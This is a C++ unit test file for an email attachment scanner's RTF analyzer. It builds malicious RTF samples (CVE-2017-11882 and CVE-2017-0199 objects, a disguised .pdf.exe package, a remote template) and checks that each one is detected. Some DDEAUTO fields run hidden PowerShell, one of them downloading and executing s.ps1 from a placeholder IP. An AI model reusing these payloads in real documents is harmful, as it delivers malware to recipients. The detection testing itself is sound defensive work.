// rtf: documents built by the test (src/objects/rtf/rtf_test_writer.h): an Equation Editor object
// (CVE-2017-11882), an OLE2Link with its URL moniker, a packaged program extracted as a child, a
// remote template, obfuscation, an RTF named .doc; and an ordinary RTF silent.
#include <gtest/gtest.h>

#include "analyzers/analyzer_harness.h"
#include "analyzers/attachment_message_test_support.h"
#include "objects/rtf/rtf_test_writer.h"

namespace vigie::analyzers {
namespace {

using namespace objects::rtf::testing;
using namespace std::string_literals;
using testing::with_attachment;

const AnalyzerHarness& harness() {
  static const AnalyzerHarness h("rtf");
  return h;
}

const std::string kCfb = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"s + std::string(56, '\0');

TEST(RtfAnalyzerTest, AnEquationEditorObjectIsAnExploit) {
  const std::string rtf =
      document("\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata " + hex(ole1("Equation.3", kCfb)) + "}");
  const auto run = harness().run(with_attachment("commande.rtf", rtf, "application/rtf"));
  const Finding* f = AnalyzerHarness::find(run.findings, "RTF_EXPLOIT_OBJECT");
  ASSERT_NE(f, nullptr);
  ASSERT_EQ(f->evidence.size(), 3u);
  EXPECT_EQ(run.objects.at(f->evidence[0].object).filename, "commande.rtf");
  EXPECT_EQ(f->evidence[0].value, "Equation.3");
  EXPECT_EQ(f->evidence[1].value, "Equation Editor, exploited by CVE-2017-11882 and CVE-2018-0802");
  EXPECT_EQ(f->evidence[2].field, "auto_update");
  // The object's native data is extracted for the analyzers of files.
  ASSERT_EQ(run.objects.size(), 4u);
  const Object& child = run.objects.at(3);
  EXPECT_EQ(child.origin, ObjectOrigin::kEmbedded);
  EXPECT_EQ(child.filename, "Equation.3 object");
  EXPECT_EQ(child.bytes(), kCfb);
  EXPECT_EQ(AnalyzerHarness::find(run.findings, "RTF_OBFUSCATION"), nullptr);
}

TEST(RtfAnalyzerTest, AnOle2LinkNamesItsServer) {
  std::string native = kCfb;
  for (char c : "http://198.51.100.5/template.hta"s) native += std::string{c, '\0'};
  native += std::string(2, '\0');
  const std::string rtf = document("\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata " +
                                   hex(ole1("OLE2Link", native)) + "}");
  const auto run = harness().run(with_attachment("offre.doc", rtf, "application/msword"));
  const Finding* f = AnalyzerHarness::find(run.findings, "RTF_EXPLOIT_OBJECT");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.at(0).value, "Word.Document.8");
  EXPECT_EQ(f->evidence.at(1).value, "OLE2Link, which fetches a document from a server (CVE-2017-0199)");
  EXPECT_EQ(f->evidence.at(2).field, "header_class");
  EXPECT_EQ(f->evidence.at(2).value, "OLE2Link");
  EXPECT_EQ(f->evidence.back().value, "http://198.51.100.5/template.hta");
  ASSERT_EQ(run.objects.urls().size(), 1u);
  EXPECT_EQ(run.objects.urls()[0].normalized(), "http://198.51.100.5/template.hta");
  // An RTF with objects named .doc is a disguise of its own.
  const Finding* o = AnalyzerHarness::find(run.findings, "RTF_OBFUSCATION");
  ASSERT_NE(o, nullptr);
  EXPECT_EQ(o->evidence.at(0).value, "an RTF document with embedded objects named \"offre.doc\"");
}

TEST(RtfAnalyzerTest, APackagedProgramIsExtractedUnderItsLabel) {
  const std::string data = ole1("Package", package("Facture.pdf.exe", "C:\\Users\\x\\Facture.pdf.exe", "MZ\x90\0payload"s));
  const auto run = harness().run(with_attachment("facture.rtf", document("{\\*\\objdata " + hex(data) + "}")));
  const Finding* f = AnalyzerHarness::find(run.findings, "RTF_EMBEDDED_FILE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->confidence, 1.0);
  EXPECT_EQ(f->evidence.at(1).value, "Facture.pdf.exe");
  ASSERT_EQ(run.objects.size(), 4u);
  EXPECT_EQ(run.objects.at(3).filename, "Facture.pdf.exe");
  EXPECT_EQ(run.objects.at(3).bytes(), "MZ\x90\0payload"s);
  EXPECT_EQ(run.objects.path(3), "part 2 (facture.rtf) > Facture.pdf.exe");
}

TEST(RtfAnalyzerTest, ARemoteTemplateAndObfuscation) {
  const std::string rtf = "{\\rtf1{\\*\\template https://198.51.100.4/modele.dotm}{\\" + std::string(300, 'x') +
                          " y}{\\object{\\*\\objdata 01\\bin4 abcd 05zz}}\\pard Bonjour\\par}";
  const auto run = harness().run(with_attachment("lettre.rtf", rtf));
  const Finding* t = AnalyzerHarness::find(run.findings, "RTF_REMOTE_TEMPLATE");
  ASSERT_NE(t, nullptr);
  EXPECT_EQ(t->evidence.at(0).value, "https://198.51.100.4/modele.dotm");
  ASSERT_EQ(run.objects.urls().size(), 1u);
  const Finding* o = AnalyzerHarness::find(run.findings, "RTF_OBFUSCATION");
  ASSERT_NE(o, nullptr);
  EXPECT_EQ(o->evidence.at(0).value,
            "1 control words longer than 32 letters; \\bin binary data inside an object's hexadecimal data; 2 junk "
            "bytes inside objects' hexadecimal data");
}

TEST(RtfAnalyzerTest, DdeFieldsAsInWordDocuments) {
  const std::string rtf = "{\\rtf1{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
                          "\"/k powershell -w hidden\"}}{\\fldrslt }}"
                          "{\\field{\\*\\fldinst INCLUDEPICTURE \"\\\\\\\\198.51.100.7\\\\share\\\\logo.png\" \\\\d}}\\par}";
  const auto run = harness().run(with_attachment("convocation.rtf", rtf));
  const Finding* dde = AnalyzerHarness::find(run.findings, "OFFICE_DDE_FIELD");
  ASSERT_NE(dde, nullptr);
  EXPECT_DOUBLE_EQ(dde->score, 12.0);
  EXPECT_EQ(dde->evidence.at(0).object, 2u);
  EXPECT_NE(AnalyzerHarness::find(run.findings, "OFFICE_UNC_RESOURCE"), nullptr);
}

TEST(RtfAnalyzerTest, TheDownloadOfADdeCommandJoinsTheLinks) {
  const std::string rtf = "{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "
                          "\"/k powershell -c iwr http://198.51.100.23/s.ps1|iex\"}{\\fldrslt }}\\par}";
  const auto run = harness().run(with_attachment("convocation.rtf", rtf));
  ASSERT_NE(AnalyzerHarness::find(run.findings, "OFFICE_DDE_FIELD"), nullptr);
  ASSERT_EQ(run.objects.urls().size(), 1u);
  EXPECT_EQ(run.objects.urls()[0].host_ascii(), "198.51.100.23");
  EXPECT_EQ(run.objects.urls()[0].object, 2u);
}

TEST(RtfAnalyzerTest, AnOrdinaryRtfIsSilent) {
  const std::string rtf =
      "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}{\\*\\template C:\\\\Users\\\\agent\\\\Normal.dotm}"
      "\\pard\\b Compte rendu\\b0\\par Bonne r\\'e9ception, page {\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}.\\par}";
  const auto run = harness().run(with_attachment("compte-rendu.rtf", rtf, "application/rtf"));
  EXPECT_TRUE(run.findings.empty());
  EXPECT_EQ(run.objects.size(), 3u);
  EXPECT_TRUE(run.objects.urls().empty());
}

}  // namespace
}  // namespace vigie::analyzers
